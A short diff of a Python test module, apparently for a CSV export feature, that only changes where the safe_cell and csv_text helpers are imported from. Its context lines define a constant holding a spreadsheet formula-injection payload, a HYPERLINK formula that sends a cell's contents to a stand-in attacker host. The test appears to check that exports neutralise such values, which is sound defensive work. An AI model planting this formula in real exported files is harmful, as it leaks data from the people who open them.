@@ -16,9 +16,9 @@ from db import ingest, reconciliation
 from db.engine import transaction
 from db.models import Platform
 from db.queries import company_today
-from exports import NUMBER, csv_text, safe_cell
 from tests.sims import BOX
 from tests.test_overview import dash_callback
+from web.exports import NUMBER, csv_text, safe_cell
 
 TZ = ZoneInfo("America/New_York")
 HOSTILE_CHANNEL = '=HYPERLINK("https://evil.example/?"&A1,"Click"),=1'
